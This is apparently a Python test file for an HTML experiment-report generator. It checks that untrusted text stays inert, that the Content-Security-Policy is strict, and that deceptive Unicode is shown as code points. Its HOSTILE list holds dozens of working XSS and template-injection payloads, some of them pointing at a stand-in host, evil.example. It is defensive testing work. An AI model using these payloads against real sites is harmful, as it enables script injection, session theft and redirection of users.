"""Whatever anyone or any model wrote, the page consists of our elements and their texts."""

from __future__ import annotations

import base64
import hashlib
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.unit.reports.builders import Texts, comparison, evidence, gate_decision, make_report
from workbench.reports.experiment import ExperimentReport
from workbench.reports.html import experiment_page
from workbench.reports.visible import visible

_ELEMENTS = {
    *("html", "head", "meta", "title", "style", "body", "header", "footer", "nav", "main"),
    *("section", "article", "h1", "h2", "h3", "h4", "p", "a", "span", "strong", "code", "div"),
    *("dl", "dt", "dd", "ul", "li", "table", "thead", "tbody", "tr", "th", "td", "mark"),
    *("figure", "figcaption", "svg", "line", "circle", "rect", "text", "desc"),
    *("details", "summary"),
}
_ATTRIBUTES = {
    *("lang", "charset", "name", "content", "http-equiv", "id", "class", "role", "scope", "href"),
    *("dir", "open", "cx", "cy", "r", "x", "y", "x1", "x2", "y1", "y2", "width", "height"),
    *("aria-label", "aria-hidden"),
}

HOSTILE = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example>",
    "<a href='javascript:alert(1)'>click</a>",
    "[click](javascript:alert(1))",
    "![](https://evil.example/pixel.gif)",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "</style><style>*{background:url(//evil.example)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=p><button>Go</button></form>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'><script>alert(1)</script>",
    "` onload=alert(1) `",
    '" style="position:fixed;inset:0',
    "<div style='position:fixed;inset:0;background:red'>over the page</div>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "</details></section></main></body></html><script>alert(1)</script>",
    "<!--",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><%= 1 %>",
    "{{ 7 * 7 }}{{ config.items() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{#",
    "{% raw %}",
    "${7*7}#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<script>\x00alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "\u202e<script>)1(trela\u202c",
    "\ud83d<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<x contenteditable onfocus=alert(1) autofocus tabindex=1>",
]


class _Page(HTMLParser):
    """Reads a page as a browser's parser would and notes all that it is made of."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[str] = []
        self.attributes: list[tuple[str, str, str | None]] = []
        self.open: list[str] = []
        self.texts: list[str] = []
        self.other: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]
        if tag not in ("meta", "line", "circle", "rect"):
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)

    def unknown_decl(self, data: str) -> None:
        self.other.append(data)


def _shape(page: _Page) -> list[str]:
    return [name for name in page.elements if name != "mark"]


def _check(page: _Page) -> None:
    assert set(page.elements) <= _ELEMENTS
    assert {name for _, name, _ in page.attributes} <= _ATTRIBUTES
    assert page.other == []
    assert page.open == []
    links = [value or "" for _, name, value in page.attributes if name == "href"]
    assert links and all(re.fullmatch("#[a-z]+", link) for link in links)


def _report_of(text: str) -> ExperimentReport:
    """A report with this text in every place that holds one, the newest ones included."""
    texts = Texts.all_of(text)
    return make_report(
        texts,
        comparisons=[comparison(texts, changes=evidence(texts))],
        gates=[gate_decision(texts)],
        extends=7,
    )


@pytest.fixture(scope="module")
def ordinary_shape() -> list[str]:
    return _shape(_Page(experiment_page(_report_of("plain text"))))


@pytest.mark.parametrize("payload", HOSTILE)
def test_a_hostile_text_in_every_place_stays_text(payload: str, ordinary_shape: list[str]) -> None:
    page = _Page(experiment_page(_report_of(payload)))
    _check(page)
    assert _shape(page) == ordinary_shape
    assert visible(payload) in "".join(page.texts)


@settings(deadline=None)
@given(
    st.text(
        alphabet=st.one_of(st.sampled_from("<>&\"'`=/{}%#! \n\r\0\u202e"), st.characters()),
        min_size=1,
        max_size=60,
    )
)
def test_no_text_whatever_adds_an_element_or_an_attribute(text: str) -> None:
    page = _Page(experiment_page(_report_of(text)))
    _check(page)


def test_the_page_forbids_itself_all_but_its_own_styles() -> None:
    text = experiment_page(make_report())
    page = _Page(text)
    [policy] = [
        value
        for (tag, name, value) in page.attributes
        if tag == "meta" and name == "content" and "default-src" in (value or "")
    ]
    styles = text.partition("<style>")[2].partition("</style>")[0]
    digest = base64.b64encode(hashlib.sha256(styles.encode()).digest()).decode()
    assert policy == (
        f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    )
    assert text.index("Content-Security-Policy") < text.index("<style>")


def test_the_page_names_no_other_host_and_loads_nothing() -> None:
    text = experiment_page(make_report())
    assert "http:" not in text and "https:" not in text and "url(" not in text
    assert "@import" not in text and "src=" not in text


def test_a_template_in_a_text_is_never_evaluated() -> None:
    page = experiment_page(make_report(Texts.all_of("{{ 7 * 7 }}")))
    assert "{{ 7 * 7 }}" in page and ">49<" not in page


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\tb\nc", "a\tb\nc"),
        ("a\r\nb", "a\nb"),
        ("a\rb", "a⟨U+000D⟩b"),
        ("nul \0", "nul ⟨U+0000⟩"),
        ("\u202eabc", "⟨U+202E⟩abc"),
        ("zero\u200bwidth", "zero⟨U+200B⟩width"),
        ("\ud800", "⟨U+D800⟩"),
        ("\U000e0041", "⟨U+E0041⟩"),
        ("👩\u200d🔬 नमस्ते שלום", "👩\u200d🔬 नमस्ते שלום"),
    ],
)
def test_characters_that_deceive_the_eye_are_shown_as_code_points(text: str, shown: str) -> None:
    assert visible(text) == shown


@given(st.text())
def test_what_is_shown_can_be_written_as_utf_8(text: str) -> None:
    visible(text).encode()
